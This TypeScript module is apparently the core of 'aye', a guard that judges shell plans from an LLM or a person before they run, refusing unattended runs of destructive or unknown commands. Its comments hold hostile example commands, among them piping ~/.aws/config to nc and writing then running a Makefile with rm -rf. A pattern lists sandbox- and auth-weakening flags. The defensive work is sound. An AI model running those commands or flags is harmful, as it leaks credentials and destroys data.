/**
 * The guard to the shell: what a plan would do, judged every time a plan is
 * shown or run, whatever its source (a rule, the cache, an LLM, the person).
 *
 * Two judgements stand side by side. `dangers` names what destroys and needs
 * a typed `yes` (the deny list of shell/danger.ts). The effect model
 * (shell/effects.ts) says what each part of the plan does; a plan runs with no one
 * pressing a key only when every part is known, and each only reads or writes
 * inside the working folder. Unknown means ask.
 */
import { existsSync } from "node:fs";
import { join, resolve } from "node:path";
import { dangersOf } from "./shell/danger.ts";
import { describeInstalls, installsIn } from "./shell/installs.ts";
import { reduce, type SimpleCommand } from "./shell/shell-syntax.ts";
import { ownFile, programName } from "./shell/wrappers.ts";
import { actsByName, EFFECT_WORDS, type Effect, type Effects, effectsOf, inside, openWord, SAFE, serversOf } from "./shell/effects.ts";
import { projectSettings } from "./shell/registry-config.ts";
import { packagesBelow, scriptOf, UNREAD } from "./shell/project-scripts.ts";
import { inPackages, moves, runDirs, wrapperFolders } from "./shell/run-dirs.ts";
import { filesWritten, writesCode } from "./shell/writes-code.ts";
import { namesOnlyAfter } from "./shell/names-only.ts";
import { directDeps, ownInstall } from "./shell/own-deps.ts";
import { pulledIn, pullSource } from "./shell/git-pulls.ts";
import { activatedBin, shadowedByVenv } from "./shell/venv-scripts.ts";
import { pdmHooks, uvRunSync } from "./shell/task-runners.ts";
import { freshDirs } from "./shell/fresh-dirs.ts";

// Kept apart so that printing a plan does not load the effect model.
export { planText } from "./plan-text.ts";
import { judgedAsRead, overlayOf, step } from "./shell/visible-writes.ts";
import { withOverlay } from "./shell/files.ts";

export interface Verdict {
  /** Reasons it is dangerous: it runs only after a typed `yes`, never unattended. */
  dangers: string[];
  /** What it installs, when it does: it runs only when chosen. */
  installs?: string;
  /** Whose settings it changes, when it does: it runs only when chosen. */
  settings?: string;
  /** What its parts do, from the least serious to the most. */
  effects: Effect[];
  /** What aye cannot say: programs and subcommands it does not know, shell it cannot see through. */
  unknown: string[];
  /** Text the plan spells only in code, which aye decoded and judged as what it runs ("`docker images`, which aye decoded from base64"). */
  decoded?: string[];
}

/** Tools whose `config set` (git: any `config` that writes) changes settings kept beyond this command. */
const CONFIGURED = /^(?:git|npm|pnpm|yarn|pip|pip3|gh|poetry|conda|rustup)$/;

/** "changes git's settings (--global)" when a simple command writes a tool's settings. */
function settingsIn(commands: string[][]): string | undefined {
  const found = commands.flatMap((argv) => {
    const [tool, sub, ...rest] = argv;
    if (!CONFIGURED.test(tool ?? "") || sub !== "config") return [];
    const reads = tool === "git" ? rest.some((w) => /^(?:--get\S*|--list|-l|--show-\S+)$/.test(w)) || rest.filter((w) => !w.startsWith("-")).length < 2 : !["set", "add", "unset", "delete", "append", "--add", "--set"].includes(rest[0] ?? "");
    const scope = rest.find((w) => /^--(?:global|system|user)$/.test(w));
    return reads ? [] : [`${tool}'s${scope ? ` ${scope.slice(2)}` : ""}`];
  });
  return found.length ? `changes ${[...new Set(found)].join(" and ")} settings` : undefined;
}

/** What a command does to the folder it runs in: out of this one (`pushd /srv/app`, `env -C ~`), it is done outside. */
const MOVED = new Set<Effect>(["writes", "deps", "moves", "undoes"]);

/** Programs that load no code of the project's, whatever it holds: what runs after a write of code may be these. */
// (Checksums and dumps read a file's bytes as data: `sha256sum rustup-init.sh` after the download runs none of it.)
const INERT = /^(?::|echo|printf|ls|cat|head|tail|wc|grep|egrep|fgrep|rg|pwd|true|false|test|\[|stat|file|diff|cmp|sort|uniq|tr|cut|jq|yq|tree|du|df|date|chmod|mkdir|touch|md5sum|sha1sum|sha224sum|sha256sum|sha384sum|sha512sum|b2sum|shasum|cksum|sum|hexdump|od|xxd|strings|nl|column|zipinfo)$/;

const ORDER = Object.keys(EFFECT_WORDS) as Effect[];

/** The failure a plan answers: the person's own command, corrected, is theirs to run again. */
export interface Typed {
  command: string;
  output: string;
}

/**
 * Judges `plan` (a line or a script) as it would run in `cwd` (from `start`, a folder of it: a script a `cd` reached). With `typed`,
 * a part of the plan that is the person's own command corrected (`corrects`)
 * counts only for what it destroys and for what it does beyond what their
 * command did: running their program, for its own ends, was their choice.
 * `inherited`: what an outer plan wrote in view before running this one as a script (visible-writes.ts).
 * Loads the parser on first use.
 */
export async function judge(plan: string, cwd: string, typed?: Typed, depth = 0, before: SimpleCommand[] = [], start = cwd, inherited: ReadonlyMap<string, string> = new Map()): Promise<Verdict> {
  let reduced: Awaited<ReturnType<typeof reduce>>;
  try {
    reduced = await reduce(plan);
  } catch (error) {
    // Fail closed: a line that cannot be judged is not run without a typed yes.
    return { dangers: [`could not be judged (${(error as Error).message})`], effects: ["unknown"], unknown: ["the line"] };
  }
  // `make test`, `npm run build`: what the project's own script runs, where it can be read, is judged as a plan.
  const theirs = typed ? await typedCommand(typed.command) : undefined;
  const said = typed ? outputWords(typed.output) : new Set<string>();
  const scripted = new Map<SimpleCommand, Verdict>();
  const planWritten = new Set<SimpleCommand>();
  // What the commands so far wrote in view (visible-writes.ts), as it stands before the one being read.
  const overlay = new Map<string, string>();
  // Where the plan has gone by each command (`cd packages/ui && npm run build`); null once aye cannot say.
  const dirs = runDirs(reduced.commands, cwd, start);
  for (const [i, c] of reduced.commands.entries()) {
    const at = dirs.get(c) ?? null;
    // (What the plan wrote before in view, `npm pkg set scripts.test=…`, `cat >> Makefile <<EOF`, is what the runner reads.)
    if (i > 0) step(overlay, reduced.commands[i - 1]!, dirs.get(reduced.commands[i - 1]!), cwd);
    if (!c.argv.length || c.dynamic.some(Boolean) || c.repeated) continue;
    // (A script that runs another, `"build": "make"`, reads what the plan wrote too: `inherited`.)
    const written = inherited.size ? new Map([...inherited, ...overlay]) : overlay;
    const read = () => (inPackages(c) ? scriptsInPackages(c, cwd, at) : scriptsAt(c.argv, cwd, at));
    // (`pdm run pytest` runs the project's pre_run and post_run hooks around pytest.)
    const hooked = (c.wrappers ?? []).some((w) => programName(w[0] ?? "") === "pdm" && !w.some((a) => /^--skip(?:=|$)/.test(a)) && pdmHooks(at ?? cwd, w.slice(1).find((a) => !a.startsWith("-")) ?? ""));
    const texts = hooked ? UNREAD : withOverlay(written, read);
    // (The person's own `make buidl`, corrected to `make build`, runs their Makefile as they chose to, read or not.)
    if (texts === undefined || (texts === UNREAD && theirs !== undefined && corrects(c, theirs, said, cwd))) continue;
    // A script that is there and not read for sure, or past three levels of scripts calling scripts: what runs is
    // not known, and never trusted by its command's name. Each is judged where it runs.
    scripted.set(c, texts !== UNREAD && depth < 3 ? merged(await Promise.all(texts.map((t) => judge(t.text, cwd, undefined, depth + 1, [], t.at, written)))) : { dangers: [], effects: ["runs"], unknown: [] });
    // (A script the plan itself wrote is not the project's: what of it aye cannot say is not trusted by the runner's name.)
    if (written.size && JSON.stringify(texts) !== JSON.stringify(withOverlay(new Map(), read))) planWritten.add(c);
  }
  // The servers the person's own command talked to: a database client that only reads may ask them too.
  const hosts = new Set(theirs ? serversOf(programName(theirs.argv[0] ?? ""), theirs.argv.slice(1)) : []);
  // Each command judged where it runs, its paths read from there (`cd scripts && rm -rf build`: scripts/build).
  // The folders the plan made that are still empty before each command (fresh-dirs.ts): what it writes there replaces nothing.
  const fresh = reduced.commands.some((c) => programName(c.argv[0] ?? "") === "mkdir") ? freshDirs(reduced.commands, dirs, (c) => !scripted.has(c) && effectsOf(c, dirs.get(c) ?? cwd, hosts, cwd).effects.every((e) => e === "reads")) : undefined;
  const each = new Map(reduced.commands.map((c) => [c, scripted.has(c) ? scriptEffects(c, scripted.get(c)!, dirs.get(c) ?? cwd, cwd, !planWritten.has(c)) : effectsOf(c, dirs.get(c) ?? cwd, hosts, cwd, fresh?.get(c))]));
  // What aye decoded runs unasked only when it only reads: the files it names were hidden from whoever reads the plan,
  // and `echo > package.json` in code may overwrite what the plan never names.
  for (const c of reduced.commands) {
    const e = each.get(c)!;
    if (c.decoded && e.effects.join() !== "reads") each.set(c, { ...e, effects: [...e.effects, "unknown"], unknown: "what decoded text changes (it runs unasked only when it only reads)" });
  }
  // After `. .venv/bin/activate`, `pytest` is the virtualenv's file of that name: trusted in a virtualenv's shape only.
  const bins: string[] = [];
  for (const c of reduced.commands) {
    const shadowed = shadowedByVenv(c.argv[0] ?? "", bins, cwd);
    if (shadowed !== undefined) each.set(c, { effects: [...each.get(c)!.effects, "runs", "unknown"], unknown: shadowed });
    const bin = activatedBin(c.argv, dirs.get(c) ?? cwd);
    if (bin !== undefined) bins.push(bin);
  }
  // What a build made is deleted as such only if the plan did not put something there first (`git mv data coverage`,
  // `rsync -l link coverage`, then `rm -rf coverage`): then it deletes what was moved or linked in.
  for (const [i, c] of reduced.commands.entries()) {
    const e = each.get(c)!;
    if (!e.rebuilt) continue;
    // (`{}` is the path a find hands its -exec, no name of its own.)
    const named = new Set(c.argv.slice(1).filter((a) => !a.startsWith("-") && a !== "{}").map((a) => a.replace(/\/+$/, "")));
    // (A find deletes by name wherever it is: a path with that name in it, `mv data src/__pycache__`, counts.)
    const byName = programName(c.argv[0] ?? "") === "find" ? c.argv.filter((_, j) => /^-i?name$/.test(c.argv[j - 1] ?? "")) : [];
    const put = (a: string) => named.has(a.replace(/\/+$/, "")) || byName.some((n) => a.split("/").some((part) => part === n || (n.startsWith("*") && part.endsWith(n.slice(1)))));
    if (reduced.commands.slice(0, i).some((p) => p.argv.slice(1).some(put) || p.redirects.some((r) => put(r.target)))) {
      each.set(c, { effects: e.effects.map((x) => (x === "writes" ? "deletes" : x)) });
      // (And what its -exec runs deletes what was put there.)
      const next = reduced.commands[i + 1];
      if (byName.length && next?.repeated && each.get(next)?.rebuilt) each.set(next, { effects: ["deletes"] });
    }
  }
  // An install of what the project declares, into the project (`npm ci --ignore-scripts`), is how its build starts; one
  // that runs its packages' own code (install scripts, plugins, builds) is asked, and the menu says what stops it.
  const own = new Set<SimpleCommand>();
  for (const [i, c] of reduced.commands.entries()) {
    const e = each.get(c)!;
    const install = e.effects.includes("installs") ? ownInstall(c, dirs.get(c) ?? null, cwd, reduced.commands.slice(0, i)) : undefined;
    if (install && !install.theirs) {
      own.add(c);
      each.set(c, { ...e, effects: e.effects.map((x) => (x === "installs" ? "deps" : x)) });
    } else if (install) each.set(c, { ...e, effects: [...e.effects, "unknown"], unknown: `what the packages \`${c.argv.slice(0, 2).join(" ")}\` fetches run as they install${install.stop ? ` (${install.stop} runs none)` : ""}` });
  }
  // A project whose own settings send its package manager elsewhere (registry-config.ts): what talks to the registry
  // sends there, and the release of yarn the project names runs for any yarn command.
  for (const c of reduced.commands) {
    const theirs = projectSettings(c.argv, dirs.get(c) ?? cwd);
    if (theirs === undefined) continue;
    const e = each.get(c)!;
    each.set(c, { ...e, effects: [...e.effects.filter((x) => x !== "deps" && x !== "reads"), theirs.effect, "unknown"], unknown: [e.unknown, theirs.why].filter(Boolean).join(", ") });
  }
  // `uv sync` installs and builds what pyproject declares, a dependency from a file or an address too (`acme @ file:///opt/acme`).
  for (const c of reduced.commands) {
    const e = each.get(c)!;
    if (programName(c.argv[0] ?? "") === "uv" && c.argv[1] === "sync" && directDeps(dirs.get(c) ?? cwd)) each.set(c, { ...e, effects: [...e.effects, "unknown"], unknown: "what `uv sync` builds from a file or an address pyproject names" });
  }
  // `uv run` syncs first (task-runners.ts): what that sync would do, judged as `uv sync` is, is the run's too.
  for (const [i, c] of reduced.commands.entries()) {
    const at = dirs.get(c) ?? cwd;
    const sync = uvRunSync(c, at, cwd);
    if (sync === undefined) continue;
    const install = ownInstall(sync, dirs.get(c) ?? null, cwd, reduced.commands.slice(0, i));
    if (install && !install.theirs && !directDeps(at)) continue;
    const e = each.get(c)!;
    const why = `what \`uv run\` installs first: it syncs the project (\`${sync.argv.join(" ")}\`), building what it fetches and the project itself`;
    each.set(c, { ...e, effects: [...e.effects, "unknown"], unknown: e.unknown ? `${e.unknown}, ${why}` : why });
  }
  // A pull is a move only from a remote the repository has (git-pulls.ts): any other place may hold anything.
  for (const [i, c] of reduced.commands.entries()) {
    const e = each.get(c)!;
    const at = dirs.get(c);
    if (e.effects.includes("moves") && (at === null || at === undefined || pullSource(c.argv, at, [...before, ...reduced.commands.slice(0, i)]) === undefined)) {
      each.set(c, { ...e, effects: [...e.effects, "unknown"], unknown: "where `git pull` fetches from (a remote this repository does not have)" });
    }
  }
  // A secret a tool prints, piped into a filter that keeps only names (`terraform output -json | jq keys`), is not sent.
  for (const [c, e] of each) if (e.shows && namesOnlyAfter(c, reduced.commands)) each.set(c, { effects: e.effects.filter((x) => x !== "sends").concat(e.effects.length === 1 ? ["reads"] : []) });
  const readsOnly = (c: SimpleCommand) => each.get(c)!.effects.join() === "reads";
  // What only reads, or deletes only a build's output, destroys nothing the danger list need look at.
  const found = dangersOf(reduced, (c) => readsOnly(c) || each.get(c)!.rebuilt === true);
  for (const [c, v] of scripted) for (const d of v.dangers) found.push(`${d} (in what \`${c.argv.join(" ")}\` runs)`);
  // What only reads installs nothing and sets nothing (`pip install x --dry-run`).
  const simple = reduced.commands.filter((c) => c.argv.length && !readsOnly(c) && !own.has(c)).map((c) => c.argv);
  const effects = new Set<Effect>();
  const unknown = new Set([...reduced.unclear, ...reduced.settings.map((name) => `what \`${name}=\` changes`)]);
  // (A folder aye cannot say, `cd ..` at the top or `cd ~`: what the plan writes after it lands elsewhere.)
  const away = reduced.commands.some((c) => dirs.get(c) === null);
  const written = typed ? filesWritten(reduced.commands) : new Set<string>();
  for (const c of reduced.commands) {
    const e = each.get(c)!;
    // A program aye cannot say the effects of (`./deploy.sh`) takes only its slips corrected: no word from the output.
    const lent = theirs !== undefined && corrects(c, theirs, said, cwd) ? adopted(c, theirs) : undefined;
    const own = lent !== undefined && lent.every((w) => plainWord(w, cwd, written)) && (!lent.length || !effectsOf(theirs!, cwd).effects.includes("unknown"));
    // Their own command, corrected, may still do what they chose it for, and no more: a word the output put in
    // (an output anyone can write to, such as an HTTP body) must not turn a status check into an upload.
    const chosen = own ? ownEffects(c, theirs!, cwd) : undefined;
    for (const effect of e.effects) if (!chosen || SAFE.has(effect) || DESTROYS.has(effect) || !chosen.has(effect)) effects.add(away && MOVED.has(effect) ? "outside" : effect);
    if (e.unknown && !chosen?.has("unknown")) unknown.add(e.unknown);
    // After a cd out of the folder, a path names something there, not here: what any command does to it is not known.
    if (dirs.get(c) === null && !moves(c)) unknown.add(`what \`${programName(c.argv[0] ?? "")}\` does where the plan went (out of this folder)`);
    const open = openWord(c, reduced.assigned, dirs.get(c) ?? cwd);
    if (open !== undefined) unknown.add(`${open}, given to \`${programName(c.argv[0] ?? "")}\``);
  }
  // A plan that writes code (a Makefile, a script, package.json) and runs something after it runs what it
  // wrote, which no table can say: `printf 'all:\n\trm -rf src\n' > Makefile && make`.
  // (Even a dry run or a read may load it: `make -n` runs a Makefile's $(shell …), python finds a json.py first.)
  // What earlier commands of the same session wrote counts too: code put in place by one call and run by the next.
  const all = [...before, ...reduced.commands];
  // (A path is never inert: `./ls` runs the file called ls, whatever it holds.)
  const inert = (word: string) => !ownFile(word) && INERT.test(programName(word));
  const left = overlayOf(reduced.commands, (p) => dirs.get(p), cwd);
  const shownAt = (at: number, target: string) => {
    const c = reduced.commands[at - before.length];
    const where = c && dirs.get(c);
    return c !== undefined && typeof where === "string" && judgedAsRead(reduced.commands, at - before.length, resolve(where, target), left);
  };
  const code = writesCode(all, inert, (c) => (each.get(c) ?? effectsOf(c, cwd)).effects.join() === "reads", shownAt);
  if (code !== undefined && all.some((c, i) => i >= before.length && i > code.at && c.argv.length && !inert(c.argv[0]!))) {
    effects.add("runs");
    unknown.add(`${code.what} and then runs`);
  }
  // A pull of another branch than the branch's own upstream brings in others' files: what builds, tests or installs
  // after it runs them (git's own reads load none of them).
  const pulled = pulledIn(all, cwd);
  if (pulled !== undefined && all.some((c, i) => i >= before.length && i > pulled.at && c.argv.length && !inert(c.argv[0]!) && !(programName(c.argv[0]!) === "git" && readsOnly(c)))) {
    effects.add("runs");
    unknown.add(`${pulled.what} and then runs`);
  }
  // What a clone, a checkout of another's branch or a submodule brought in may hold links: a later write may land
  // anywhere (`git switch -c review origin/pr-7; printf … >> docs/changelog.md`, changelog.md a link to ~/.bashrc).
  for (const brought of [code, pulled]) {
    if (brought !== undefined && /brings in/.test(brought.what) && all.some((c, i) => i >= before.length && i > brought.at && each.get(c)?.effects.includes("writes"))) {
      effects.add("unknown");
      unknown.add(`where it writes, after ${brought.what.replace(/^what /, "")}`);
    }
  }
  if (unknown.size) effects.add("unknown");
  // What the scripts read install or set counts as the plan's own.
  const settings = settingsIn(simple) ?? [...scripted.values()].find((v) => v.settings)?.settings;
  const installs = installsIn(simple);
  const decoded = [...new Set(reduced.commands.flatMap((c) => (c.decoded ? [c.decoded] : [])))];
  const verdict: Verdict = { dangers: found, effects: ORDER.filter((e) => effects.has(e)), unknown: [...unknown], ...(settings ? { settings } : {}), ...(decoded.length ? { decoded } : {}) };
  if (!installs.length) {
    const scriptInstalls = [...scripted.values()].find((v) => v.installs)?.installs;
    return scriptInstalls ? { ...verdict, installs: scriptInstalls } : verdict;
  }
  const { what, typosquats } = describeInstalls(installs);
  return { ...verdict, dangers: [...found, ...typosquats], installs: what };
}

/**
 * The script a command runs where the plan is (`dir`, after its `cd`s) and where it started: a `cd` in a subshell
 * may not hold for what follows, so both are read, and either one not read for sure is UNREAD.
 */
function scriptsAt(argv: string[], cwd: string, dir: string | null): Script[] | typeof UNREAD | undefined {
  const here = scriptOf(argv, cwd);
  // (Where the plan is not known, a program that keeps no script there, `touch x`, reads none: only a runner's is UNREAD.)
  const there = dir === cwd ? undefined : dir === null ? (/^(?:make|gmake|npm|pnpm|yarn|bun|lerna|turbo|just|rake|invoke|inv|fab|gulp|grunt|task|mage|pdm)$/.test(programName(argv[0] ?? "")) ? UNREAD : undefined) : scriptOf(argv, dir);
  if (here === UNREAD || there === UNREAD) return UNREAD;
  const found = [...(here === undefined ? [] : [{ text: here, at: cwd }]), ...(there === undefined ? [] : [{ text: there, at: dir! }])];
  return found.length ? found : undefined;
}

/** A script a command runs, and the folder it runs in. */
interface Script {
  text: string;
  at: string;
}

/** What several scripts do together. */
function merged(verdicts: Verdict[]): Verdict {
  const installs = verdicts.find((v) => v.installs)?.installs;
  const settings = verdicts.find((v) => v.settings)?.settings;
  return {
    dangers: verdicts.flatMap((v) => v.dangers),
    effects: ORDER.filter((e) => verdicts.some((v) => v.effects.includes(e))),
    unknown: [...new Set(verdicts.flatMap((v) => v.unknown))],
    ...(installs ? { installs } : {}),
    ...(settings ? { settings } : {}),
  };
}

/**
 * What a command a package manager runs in its workspace's packages reads (`pnpm --filter ui exec npm run build`):
 * the script of each package, where the plan is too; any not read for sure, or a folder named out of this one, is UNREAD.
 */
function scriptsInPackages(c: SimpleCommand, cwd: string, dir: string | null): Script[] | typeof UNREAD | undefined {
  if (wrapperFolders(c).some((f) => dir === null || !inside(resolve(dir, f), cwd))) return scriptsAt(c.argv, cwd, null);
  const own = scriptsAt(c.argv, cwd, dir);
  const below = packagesBelow(cwd).map((p) => ({ text: scriptOf(c.argv, p), at: p }));
  if (own === UNREAD || below.some((b) => b.text === UNREAD)) return UNREAD;
  const read = [...(own ?? []), ...below.filter((b): b is Script => typeof b.text === "string")];
  return read.length ? read : undefined;
}

/**
 * What a command whose script was read does: what its script does, with what the command's own
 * redirections, wrappers and background add (judged as if it ran nothing itself). What of the
 * script aye cannot say (the project's own programs: `./build/app --self-test`) is left to the
 * command's name, as before the script was read: a build or a test is trusted to build or test. Not so a script
 * the plan itself wrote (`theirs` false): what of it aye cannot say stays unknown.
 */
function scriptEffects(c: SimpleCommand, script: Verdict, at: string, cwd: string, theirs = true): Effects {
  const around = effectsOf({ ...c, argv: ["true"], dynamic: [false] }, at, undefined, cwd).effects.filter((e) => e !== "reads");
  const known = script.effects.filter((e) => e !== "unknown");
  const byName = effectsOf(c, at, undefined, cwd);
  const trusted = theirs && script.unknown.length > 0 && byName.effects.every((e) => SAFE.has(e));
  // (What the command installs or sends besides is its own: `npm ci` runs the install scripts it read and installs, and
  // `make -p` prints the environment whatever the Makefile says.)
  const effects = [...new Set([...known, ...around, ...(trusted ? byName.effects : byName.effects.filter((e) => e === "installs" || e === "sends"))])];
  return { effects: effects.length ? effects : ["reads"], ...(script.unknown.length && !trusted ? { unknown: script.unknown.join(", ") } : {}) };
}

/** What the plan does, in words that follow "it" (for a menu too): "reads only", "sends data out; does what aye does not know: `foo`". */
export function effectNote(v: Verdict): string {
  const words = v.effects.filter((e) => e !== "unknown" && !(e === "reads" && v.effects.length > 1)).map((e) => EFFECT_WORDS[e]);
  if (v.unknown.length) words.push(`does what aye does not know: ${v.unknown.join(", ")}`);
  if (v.decoded?.length && words.length) words.push(`aye judged ${v.decoded.join(" and ")}`);
  return words.join("; ");
}

/** What a plan needs the person to know, in the order it matters least to most: effects, installs, settings, dangers. */
export const verdictNotes = (v: Verdict) => [effectNote(v), ...(v.installs ? [v.installs] : []), ...(v.settings ? [v.settings] : []), ...(v.dangers.length ? [`DANGEROUS: ${v.dangers.join(", ")}`] : [])].filter(Boolean);

/** Effects that destroy, or reach outside the folder: the person's own command corrected does not run unattended with one. */
const DESTROYS = new Set<Effect>(["deletes", "history", "system", "outside"]);

/**
 * Why the plan may not run with no one pressing a key (`fix --yes`, `chat
 * --yolo`), in words that follow "it"; undefined when it may: when every part
 * is known to only read or write in the working folder (or is the person's own
 * command corrected, see judge). Never a dangerous one, an install, or a change of settings.
 */
export function unattendedRefusal(v: Verdict): string | undefined {
  if (v.dangers.length) return `is dangerous: it ${v.dangers.join("; ")}`;
  if (v.installs) return v.installs;
  if (v.settings) return v.settings;
  if (v.effects.every((e) => SAFE.has(e))) return undefined;
  return effectNote({ ...v, effects: v.effects.filter((e) => !SAFE.has(e)) }) || "does what aye does not know";
}

/** What aye knows of a command the model wants to run: why it is dangerous, and why it may not run unasked (undefined: it may). */
export interface CallVerdict {
  dangers: string[];
  unsure?: string;
}

/** What a chat needs to know of a command the model wants to run. */
export async function judgeCall(command: string, cwd: string, before: SimpleCommand[] = []): Promise<CallVerdict> {
  const v = await judge(command, cwd, undefined, 0, before);
  return { dangers: v.dangers, unsure: unattendedRefusal(v) };
}

/**
 * A chat's judge, which remembers the commands it was asked about: a file of code one call writes (a Makefile, a test)
 * and a later call runs is judged as one plan would be.
 */
export function sessionJudge(cwd: string): (command: string) => Promise<CallVerdict> {
  // The commands of every call, each read alone (one that cannot be read, an open here-document, swallows no other).
  const before: SimpleCommand[] = [];
  const kept = new Set<string>();
  return async (command) => {
    const verdict = await judgeCall(command, cwd, before);
    // Only what may write is kept, each command once: nothing a chat does pushes an earlier write out of it.
    const commands = await reduce(command).then((r) => r.commands, () => []);
    for (const c of commands) {
      const key = JSON.stringify([c.argv, c.redirects, c.wrappers]);
      if (!kept.has(key) && (c.redirects.length > 0 || !effectsOf(c, cwd).effects.every((e) => e === "reads"))) {
        kept.add(key);
        before.push(c);
      }
    }
    return verdict;
  };
}

/** Damerau–Levenshtein distance between two words, up to `max` + 1. */
function distance(a: string, b: string, max: number): number {
  if (Math.abs(a.length - b.length) > max) return max + 1;
  const d: number[][] = Array.from({ length: a.length + 1 }, (_, i) => [i, ...Array<number>(b.length).fill(0)]);
  for (let j = 1; j <= b.length; j++) d[0]![j] = j;
  for (let i = 1; i <= a.length; i++) {
    for (let j = 1; j <= b.length; j++) {
      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
      d[i]![j] = Math.min(d[i - 1]![j]! + 1, d[i]![j - 1]! + 1, d[i - 1]![j - 1]! + cost);
      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) d[i]![j] = Math.min(d[i]![j]!, d[i - 2]![j - 2]! + 1);
    }
  }
  return d[a.length]![b.length]!;
}

/** A word typed with a slip: one or two keys off, as its length allows. */
const slipped = (typed: string, meant: string) => typed !== meant && distance(typed.toLowerCase(), meant.toLowerCase(), 2) <= (Math.max(typed.length, meant.length) <= 4 ? 1 : 2);

/** The words of a tool's output, each as it could be quoted back (`'push'`, `--set-upstream,`). */
const outputWords = (output: string) => new Set(output.split(/[\s'"`‘’“”()[\]<>]+/).map((w) => w.replace(/[.,;:!?]+$/, "")).filter(Boolean));

/** The one simple command the person typed, when it was one. */
async function typedCommand(command: string): Promise<SimpleCommand | undefined> {
  try {
    const { commands, unclear } = await reduce(command);
    return commands.length === 1 && !unclear.length ? commands[0] : undefined;
  } catch {
    return undefined;
  }
}

/** The words of `b` the person did not type, nor slipped on: those taken from the tool's output. */
const adopted = (b: SimpleCommand, a: SimpleCommand) => b.argv.filter((w) => !a.argv.some((t) => t === w || slipped(t, w)));

/**
 * A word the output may lend a correction: an option, a subcommand, a name; not a place (a path, a URL, a host, a
 * file here or one the plan writes), not code (`readpipe+qq{…}`), nor an option that takes code (`-e`, `--eval`).
 */
const plainWord = (w: string, cwd: string, written: Set<string>) =>
  /^(?:--?)?\w[\w.-]*(?:=[\w.,-]*)?$/.test(w) && !/^-[ecE]$|^--(?:eval|exec|execute|command|require|import)\b/.test(w) && !actsByName(w) && !OPENS_UP.test(w) && !existsSync(join(cwd, w)) && !written.has(w);

/**
 * Words that open a server to the network or drop its password (`--ip=0.0.0.0`, `--NotebookApp.token=`), make what
 * is sent public, widen what a command sends or deletes (`--all`, `--follow-tags`, rsync's `--del`), or drop a
 * sandbox's or a check's guard (`--security-opt seccomp=unconfined`, `--privileged`, `--location-trusted`, `-k`).
 */
const OPENS_UP = /0\.0\.0\.0|(?:^|=)::$|^--?(?:host|bind|listen|address|ip|addr)=(?:0|\*|\[::\])$|(?:token|password|passwd|auth|secret|key)=$|^--(?:no-auth|allow-root|disable-auth|insecure|all|tags|follow-tags|mirror|del|recursive)$|public|authenticated|unconfined|privileged|trusted|^--(?:security-opt|cap-add|cgroupns|pid|ipc|network|net|userns|uts|device|volume|mount|no-verify|no-check-certificate|unrestricted|unsafe[\w-]*|allow[\w-]*|disable[\w-]*|skip-verify)(?:=|$)|^-k$/i;


/**
 * What the person's own command did as they typed it; where aye cannot say (a slipped subcommand: `git psuh`),
 * what the words they typed, corrected, do (`git push`).
 */
function ownEffects(c: SimpleCommand, theirs: SimpleCommand, cwd: string): Set<Effect> {
  const typed = effectsOf(theirs, cwd).effects;
  if (!typed.includes("unknown")) return new Set(typed);
  return new Set(effectsOf({ ...c, argv: c.argv.filter((w) => theirs.argv.some((t) => t === w || slipped(t, w))) }, cwd).effects);
}

/**
 * Whether `b` is the person's command `a` corrected: the words they typed, with
 * only those changed that slipped, and words added, dropped or swapped in that
 * the tool's output names (`said`); the same redirections, under the same wrappers.
 */
function corrects(b: SimpleCommand, a: SimpleCommand, said: Set<string>, cwd: string): boolean {
  // (The wrappers' own words too: `npx prettier` is not `npx -p other-package prettier`.)
  if (JSON.stringify(a.redirects) !== JSON.stringify(b.redirects) || JSON.stringify(a.wrappers ?? []) !== JSON.stringify(b.wrappers ?? [])) return false;
  // What the plan feeds it (`cat ~/.aws/config | nc host 9999`) is not what the person gave it.
  if ((b.stdinFrom.length > 0 || b.stdinText !== undefined) && !(a.stdinFrom.length > 0 || a.stdinText !== undefined)) return false;
  const typed = a.argv;
  const meant = b.argv;
  if (!meant.length || (typed[0] !== meant[0] && !slipped(typed[0] ?? "", meant[0]!))) return false;
  // The output may add words to a command aye knows; it may not drop or replace the words of one that sends (the
  // remote, the host), nor touch a program aye cannot say the effects of (a script's arguments are its meaning).
  const effects = effectsOf(a, cwd).effects;
  const known = !effects.includes("unknown");
  const replace = known && !effects.includes("sends");
  // An alignment of the two lines where every change slipped or was named by the tool.
  const can: boolean[][] = Array.from({ length: typed.length + 1 }, () => Array<boolean>(meant.length + 1).fill(false));
  can[0]![0] = true;
  for (let i = 0; i <= typed.length; i++) {
    for (let j = 0; j <= meant.length; j++) {
      if (!can[i]![j]) continue;
      // (A value the person gave an option is theirs: the output may not swap `--env staging` for `production`.)
      const theirValue = i > 0 && typed[i - 1]!.startsWith("-") && !typed[i - 1]!.includes("=");
      // (What the person chose to only preview, and where they sent it, stays theirs: no `--dry-run` dropped or
      // slipped into `-y`, no host a letter away, `web1` → `web7`, `api.acme.io` → `api.acme.co`.)
      const fixed = i > 0 && i < typed.length && (PREVIEW.test(typed[i]!) || HOSTLIKE.test(typed[i]!));
      if (i < typed.length && j < meant.length && (typed[i] === meant[j] || (!fixed && (slipped(typed[i]!, meant[j]!) || (replace && said.has(meant[j]!) && !theirValue && !sendsTo(meant[j]!)))))) can[i + 1]![j + 1] = true;
      if (known && j < meant.length && said.has(meant[j]!) && !sendsTo(meant[j]!)) can[i]![j + 1] = true;
      if (replace && i < typed.length && !fixed && said.has(typed[i]!)) can[i + 1]![j] = true;
    }
  }
  if (can[typed.length]![meant.length]) return true;
  // The same words in another order (`git origin push` → `git push origin`), for a program aye knows: to a script
  // of the project's, the order is the meaning (`copy-db.sh staging production`).
  return known && typed.length === meant.length && [...typed].sort().join("\0") === [...meant].sort().join("\0");
}

/** A word that names a host, as itself or as an option's value (`--proxy=relay.example.net`). */
const sendsTo = (w: string) => HOSTLIKE.test(w) || HOSTLIKE.test(w.slice(w.indexOf("=") + 1));

/** Options that make a command only show what it would do. */
const PREVIEW = /^(?:-n|--dry-?run(?:=.*)?|--dryrun|--dry|--no-act|--noop|--simulate|--pretend|--what-?if|--check|--plan|--preview|--diff|-whatif)$/i;

/** A host, an address or a place a command is sent to: `api.acme.io`, `10.0.0.7`, `user@host`, a URL. */
// (Named by a domain's ending, not any two letters: `main.py` and `README.md` are files.)
const HOSTLIKE = /:\/\/|@[\w-]|^(?:[\w-]+\.)+(?:com|net|org|io|co|ai|me|dev|app|cloud|internal|local|lan|corp|example|test|us|uk|de|eu)(?::\d+)?(?:\/.*)?$|^\d{1,3}(?:\.\d{1,3}){3}/i;
